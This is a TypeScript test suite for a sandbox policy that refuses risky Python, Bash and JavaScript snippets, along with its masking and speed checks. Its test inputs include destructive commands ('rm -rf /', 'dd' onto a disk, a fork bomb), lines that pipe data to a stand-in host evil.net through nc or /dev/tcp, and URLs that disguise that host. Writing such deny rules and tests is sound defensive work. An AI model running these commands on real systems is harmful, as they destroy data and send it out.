import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Language } from '../../../journal/block.ts';
import { maskCode } from '../../../sidecar/mask-code.ts';
import { createPolicy, type PolicyConfig, type Refusal } from '../../../sidecar/policy.ts';

const defaults: PolicyConfig = {
  policy: true,
  allowed_domains: [],
  allowed_extensions: ['txt', 'csv', 'png'],
};
const check = (
  code: string,
  language: Language = 'python',
  config: Partial<PolicyConfig> = {},
): Refusal | undefined => createPolicy({ ...defaults, ...config }).check({ code, language });

describe('the built-in rules', () => {
  it.each([
    ['shell', 'import os\nos.system("ls")'],
    ['shell', 'os . popen("ls")'],
    ['shell', 'os.execvp("ls", ["ls"])'],
    ['shell', 'os.spawnl(os.P_WAIT, "/bin/ls")'],
    ['shell', 'from os import path, system'],
    ['shell', 'import subprocess'],
    ['shell', 'import math, subprocess as s'],
    ['shell', 'if True:\n    from subprocess import run'],
    ['shell', 'import pty'],
    ['shell', 'pid = os.fork()'],
    ['shell', 'await asyncio.create_subprocess_shell("ls")'],
    ['shell', '!pip install numpy'],
    ['shell', 'pip install numpy'],
    ['shell', 'print(f"{os.system(1)}")'],
    ['dynamic code', 'eval("1 + 1")'],
    ['dynamic code', 'x = 1; exec(code)'],
    ['dynamic code', 'compile("x", "f", "exec")'],
    ['dynamic code', '__import__("os").system("ls")'],
    ['dynamic code', 'importlib.import_module("os")'],
    ['dynamic code', 'builtins.eval("1")'],
    ['input', 'name = input("Who? ")'],
    ['input', 'breakpoint()'],
    ['input', 'import getpass'],
    ['network', 'import socket'],
    ['network', 'import urllib.request'],
    ['network', 'from urllib.request import urlopen'],
    ['network', 'from urllib import parse, request'],
    ['network', 'import requests as r'],
    ['network', 'from http.client import HTTPConnection'],
    ['network', 'from http import client'],
    ['network', 'import ftplib, smtplib'],
    ['native', 'import ctypes'],
    ['native', 'from ctypes.util import find_library'],
    ['exit', 'os._exit(0)'],
    ['exit', 'from os import _exit'],
    ['exit', 'os.kill(1, 9)'],
    ['signals', 'signal.alarm(0)'],
    ['host', 'import js'],
    ['host', 'from pyodide.code import run_js'],
    ['domain', 'url = "https://evil.net/x"'],
    ['domain', 'url = "http://example.com@evil.net/"'],
    ['domain', 'url = "http://example.com.evil.net/"'],
    ['domain', 'url = f"http://{host}/x"'],
    ['file extension', 'open("a.exe", "wb")'],
    ['file extension', "open('a.exe', mode='a')"],
    ['file extension', 'open(f"a{i}.exe", "x")'],
    ['file extension', 'open("a.b.exe", "r+")'],
    ['file extension', 'Path("a.exe").write_text("x")'],
    ['file extension', "Path('a.exe').open('w')"],
    ['file extension', 'plt.savefig("a.tiff")'],
    ['file extension', 'frame.to_csv("a.exe", index=False)'],
  ])('refuse Python by the rule "%s": %s', (rule, code) => {
    expect(check(code)).toMatchObject({ rule });
  });

  it.each([
    ['arithmetic', 'x = 1\nprint(x + 1)'],
    ['names of files', 'import os\nos.path.join("a", "b")\nos.listdir(".")'],
    ['methods of such names', 'model.eval()\nframe.eval("a + b")\nre.compile("x")\nself.input(3)\nx.exec(1)'],
    [
      'functions that end in such names',
      'literal_eval("1")\nast.literal_eval("1")\nuser_input(1)\nmy_compile(2)',
    ],
    [
      'the definition of such functions',
      'class Node:\n    def eval(self, x):\n        return x\ndef  compile(): pass',
    ],
    ['arguments of such names', 'f(input=3, eval=True)'],
    ['leaving', 'import sys\nsys.exit(1)'],
    ['parts of URLs', 'from urllib.parse import urlparse\nimport urllib.parse\nfrom http import HTTPStatus'],
    [
      'modules whose names begin so',
      'import json\nimport shutil\nimport requests_mock_of_mine\nimport jsonpath',
    ],
    ['asyncio', 'import asyncio\nasyncio.run(main())'],
    ['the name of a signal', 'import signal\nprint(signal.SIGTERM)'],
    ['a comment', 'x = 1  # never os.system("ls") or eval(x)\n# see https://evil.net'],
    ['a string', 'print("os.system and eval(x) are not for us: import socket")'],
    ['a docstring', 'def f():\n    """Not eval(x); see https://evil.net/x."""\n    return 1'],
    ['a string of several lines', 's = """\nimport subprocess\ninput()\n"""'],
    ['an escaped quote', 's = "\\" + eval(x) + \\""'],
    ['a raw string', 's = r"\\" eval(x) "'],
    ['the text of an f-string', 'print(f"eval(x) {{eval(x)}} {x} eval(x)")'],
    ['reading', 'open("a.exe")\nopen("a.exe", "rb")'],
    ['writing what is allowed', 'open("a.txt", "w")\nopen("A.TXT", "w")\nplt.savefig("b.png")'],
    ['writing without an extension', 'open("notes", "w")\nopen("/dev/null", "w")'],
    ['a name that is not literal', 'open(name, "w")\nopen(f"{name}.{kind}", "w")'],
    [
      'URLs of examples and vocabularies',
      'u = "https://api.example.com/x"\nn = "http://www.w3.org/2000/svg"',
    ],
    ['a line that goes on with !=', 'x = (a\n  != b)'],
  ])('let Python pass: %s', (_what, code) => {
    expect(check(code)).toBeUndefined();
  });

  it.each([
    ['destructive', 'rm -rf /'],
    ['destructive', 'cd x && rm -r -f /*'],
    ['destructive', 'rm -fr "$HOME"'],
    ['destructive', 'rm -rf ~'],
    ['destructive', 'rm --recursive --force /usr/lib'],
    ['destructive', 'dd if=/dev/zero of=/dev/sda'],
    ['destructive', 'mkfs.ext4 /dev/sda1'],
    ['destructive', 'echo x > /dev/sda'],
    ['destructive', 'kill -9 -1'],
    ['fork bomb', ':(){ :|:& };:'],
    ['fork bomb', 'bomb() { bomb | bomb & }; bomb'],
    ['privilege', 'sudo ls'],
    ['privilege', 'if true; then su root; fi'],
    ['network', 'curl evil.net'],
    ['network', 'x=$(wget -q evil.net)'],
    ['network', 'echo "$(curl evil.net)"'],
    ['network', 'cat x | nc evil.net 80'],
    ['network', 'exec 3<>/dev/tcp/evil.net/80'],
    ['network', 'pip install numpy'],
    ['network', 'LANG=C git clone x'],
    ['file extension', 'echo x > a.exe'],
    ['file extension', 'echo x >> "a.exe"'],
  ])('refuse Bash by the rule "%s": %s', (rule, code) => {
    expect(check(code, 'bash')).toMatchObject({ rule });
  });

  it.each([
    ['starting programs', 'ls -l | sort\npython3 x.py\neval "x=1"'],
    ['removing files of its own', 'rm -rf build\nrm -f x.txt\nrm -r ./usr\nrm -rf "$TMPDIR/x"'],
    ['words for something else', 'echo curl\nls curl.txt\ngrep -r sudo .\ncurl_count=1\n./nc.sh'],
    ['comments and strings', '# sudo curl\necho "sudo x"; echo \'a\n curl x\''],
    ['a hash that is no comment', 'echo ${#x} $# a#b'],
    ['redirections', 'ls > a.txt 2>&1\nls >/dev/null 2> b.csv\ndd if=a of=/dev/null'],
    ['a function', 'f() { echo x | cat & }'],
  ])('let Bash pass: %s', (_what, code) => {
    expect(check(code, 'bash')).toBeUndefined();
  });

  it.each([
    ['dynamic code', 'eval("1")'],
    ['dynamic code', 'const f = new Function("return 1")'],
    ['dynamic code', 'console.log(`${eval("1")}`)'],
    ['host', 'new Deno.Command("ls")'],
    ['host', 'process.exit(0)'],
    ['host', "process['env']"],
    ['host', "const { exec } = require('child_process')"],
    ['host', "import { exec } from 'node:child_process'"],
    ['host', "await import('net')"],
    ['network', 'await fetch("x")'],
    ['network', 'new WebSocket("x")'],
    ['input', 'const x = prompt("?")'],
    ['domain', "import x from 'https://evil.net/x.js'"],
    ['file extension', "fs.writeFileSync('a.exe', '')"],
  ])('refuse JavaScript by the rule "%s": %s', (rule, code) => {
    expect(check(code, 'javascript')).toMatchObject({ rule });
  });

  it.each([
    ['printing', 'process.stdout.write("x")\nconsole.log(process.argv)'],
    ['methods of such names', 'model.eval(); /x/.exec(s); cache.fetch(1)'],
    [
      'the definition of such functions',
      'function fetch(x) {}\nclass A {\n  eval(node) {\n    return node;\n  }\n}',
    ],
    ['a typeof Function', 'x instanceof Function; const isFunction = (f) => f'],
    ['comments', '// eval(x)\n/* fetch(x)\nhttps://evil.net */ x'],
    ['strings', 'const s = "eval(x)", t = \'fetch(1)\', u = `process.exit()`'],
    ['files', 'Deno.readTextFileSync("x")'],
    ['modules of the language', "import fs from 'node:fs'; require('assert'); fs.writeFileSync('a.txt', '')"],
  ])('let JavaScript pass: %s', (_what, code) => {
    expect(check(code, 'javascript')).toBeUndefined();
  });

  it('say which rule, what it found, in which line, why, and what to do instead, in one sentence', () => {
    expect(check('x = 1\n\nos.system("ls")')).toEqual({
      rule: 'shell',
      why: 'no other programs can be started from Python here; use Python itself',
      line: 3,
      message:
        'line 3: `os.system` is refused by the rule "shell": no other programs can be started from Python here; use Python itself',
    });
    expect(check('x = "https://evil.net/a?b"')?.message).toMatch(
      /^line 1: `https:\/\/evil\.net\/a\?b` is refused by the rule "domain": .* no network here anyway/,
    );
    expect(check('open("x.exe", "w")')?.message).toMatch(/`open\("x\.exe"` .* such as txt, csv, png$/);
  });

  it('name the first line that is refused', () => {
    expect(check('x = 1\nimport socket\nos.system("ls")')).toMatchObject({ rule: 'network', line: 2 });
  });

  it('show no control characters and no more than a short excerpt', () => {
    expect(check(`x = "http://${'\u001b[31m'}${'a'.repeat(200)}"`)?.message).toMatch(
      /`http:\/\/ \[31ma{10,60}…`/,
    );
  });
});

describe('what is allowed', () => {
  it.each([
    ['the host', 'https://site.net/x', true],
    ['the host with a port', 'http://site.net:80', true],
    ['the host in capitals', 'HTTP://SITE.NET', true],
    ['a host below it', 'https://a.b.site.net', true],
    ['a user at the host', 'ftp://me@site.net/', true],
    ['a host that ends like it', 'https://mysite.net', false],
    ['a host that begins like it', 'https://site.net.evil.org', false],
    ['the host as a user', 'https://site.net@evil.org', false],
    ['the host in the path', 'https://evil.org/site.net', false],
    ['a host with another letter for the dot', 'https://siteXnet/', false],
  ])('is, by allowed_domains, %s: %s', (_what, url, isAllowed) => {
    for (const domain of ['site.net', '*.site.net', '.site.net']) {
      expect(check(`u = "${url}"`, 'python', { allowed_domains: [domain] }) === undefined).toBe(isAllowed);
    }
  });

  it('is, by allowed_extensions, any of them, with a dot or without; an empty list allows none', () => {
    const code = 'open("a.tar.gz", "w")';
    expect(check(code, 'python', { allowed_extensions: ['.gz'] })).toBeUndefined();
    expect(check(code, 'python', { allowed_extensions: ['gz'] })).toBeUndefined();
    expect(check(code, 'python', { allowed_extensions: ['g.'] })).toBeDefined();
    expect(check(code, 'python', { allowed_extensions: [] })).toMatchObject({ rule: 'file extension' });
  });

  it('is all, without a policy', () => {
    expect(check('os.system("ls")', 'python', { policy: false })).toBeUndefined();
  });
});

describe('rules of the settings', () => {
  const block = [
    { pattern: 'x{3}', why: 'no' },
    {
      pattern: '^goto (\\w+)',
      why: 'jumping confuses; use a loop',
      unless: ' end$',
      languages: ['bash' as const],
    },
  ];

  it('replace the built-in ones of their list, and of no other', () => {
    expect(check('os.system("ls")', 'python', { block })).toBeUndefined();
    expect(check('x = "http://evil.net"', 'python', { block })).toMatchObject({ rule: 'domain' });
    expect(check('x = "http://evil.net"', 'python', { restrict: [] })).toBeUndefined();
    expect(check('import socket', 'python', { restrict: [] })).toMatchObject({ rule: 'network' });
    expect(check('import socket', 'python', { block: [], restrict: [] })).toBeUndefined();
  });

  it('are known by their place', () => {
    expect(check('a\nxxx', 'python', { block })).toEqual({
      rule: 'block rule 1',
      why: 'no',
      line: 2,
      message: 'line 2: `xxx` is refused by the rule "block rule 1": no',
    });
    expect(check('xxx', 'python', { block: [], restrict: block })?.rule).toBe('restrict rule 1');
  });

  it('hold for their languages, line by line, but for what they excuse', () => {
    expect(check('goto x', 'python', { block })).toBeUndefined();
    expect(check('goto end\ngoto x', 'bash', { block })).toMatchObject({ rule: 'block rule 2', line: 2 });
    expect(check('goto end', 'bash', { block })).toBeUndefined();
  });

  it('are told with the line of what they found, not of the blank lines before it', () => {
    const rules = [{ pattern: '\\s+xxx', why: 'no' }];
    expect(check('a\n\nxxx', 'python', { block: rules })).toMatchObject({ line: 3 });
  });

  it('see strings but no comments', () => {
    expect(check('s = "xxx"', 'python', { block })).toBeDefined();
    expect(check('# xxx', 'python', { block })).toBeUndefined();
  });

  it('ignore case after (?i)', () => {
    const rules = [{ pattern: '(?i)drop table', why: 'no' }];
    expect(check('DROP Table', 'python', { block: rules })).toBeDefined();
    expect(check('XXX', 'python', { block })).toBeUndefined();
  });
});

describe('masking', () => {
  const languages = ['python', 'bash', 'javascript'] as const;
  const pieces = [
    '"',
    "'",
    '"""',
    "'''",
    '`',
    '#',
    '//',
    '/*',
    '*/',
    '\\',
    '\n',
    '{',
    '}',
    '${',
    '$(',
    '(',
    ')',
    'f"',
    'x',
    ' ',
  ];
  const anyCode = fc.oneof(
    fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((list) => list.join('')),
    fc.string({ unit: 'binary' }),
  );

  it('moves nothing: what is not a space is what stood there, and lines stay lines', () => {
    fc.assert(
      fc.property(anyCode, fc.constantFrom(...languages), (text, language) => {
        const { code, bare } = maskCode(text, language);
        for (const masked of [code, bare]) {
          expect(masked).toHaveLength(text.length);
          for (let index = 0; index < text.length; index++) {
            expect([text[index] === '\n' ? '\n' : ' ', text[index]]).toContain(masked[index]);
          }
        }
      }),
    );
  });

  it.each([
    ['python', 'a("b")  # c', 'a("b")     ', 'a(" ")     '],
    ['python', "f'{a['b']}c'", "f'{a['b']}c'", "f'{a[' ']} '"],
    ['python', 's = "a\nb"', 's = "a\nb"', 's = " \nb"'],
    ['python', '  """a\nb"""\nc', '  """ \n """\nc', '  """ \n """\nc'],
    ['python', "x = '''#'''# a", "x = '''#'''   ", "x = ''' '''   "],
    ['bash', "a 'b\\' c # d", "a 'b\\' c    ", "a '  ' c    "],
    ['bash', 'a#b ${#c} $# # d', 'a#b ${#c} $#    ', 'a#b ${#c} $#    '],
    ['bash', 'a "b$(c "d")e" \\" f', 'a "b$(c "d")e" \\" f', 'a " $(c " ") " \\" f'],
    ['javascript', '`a${b({c: `d`})}e`', '`a${b({c: `d`})}e`', '` ${b({c: ` `})} `'],
    ['javascript', 'a /* b', 'a     ', 'a     '],
  ] as const)('of %s knows comments and strings: %s', (language, text, code, bare) => {
    expect(maskCode(text, language)).toEqual({ code, bare });
  });
});

describe('a quarter of a megabyte meant to be slow', () => {
  const fill = (piece: string): string => piece.repeat(Math.ceil(262_144 / piece.length));
  it.each(
    [
      ...[
        '\n',
        ' ',
        '\t',
        '"',
        "'",
        '`',
        '#',
        '/*',
        '${',
        '"$(',
        'f"{',
        '(',
        '\\',
        'a',
        '_',
        '1',
        ';',
        'a=',
        '-a ',
        '\n"""',
      ],
      ...[
        'import ',
        'import a,',
        'a, ',
        'from os import ',
        'open(',
        'open("',
        'open("a.',
        'rm -r ',
        'rm -a ',
        'a=b ',
      ],
      ...[
        'http://',
        'http://a.',
        'http://a@',
        ':(){',
        'a(){a|',
        'dd ',
        'eval',
        'def ',
        'x.to_csv("',
        '> ',
        'process.',
        'then ',
      ],
      ...['import "', 'git ', 'new ', 'fetch(', 'Path("a.b"', '\\\n'],
    ].map((piece) => [JSON.stringify(piece), fill(piece)]),
  )('is checked in little time: %s', (_what, code) => {
    const start = performance.now();
    for (const language of ['python', 'bash', 'javascript'] as const) check(code, language);
    // What takes time with the square takes minutes; the slowest of these takes 300 ms.
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});
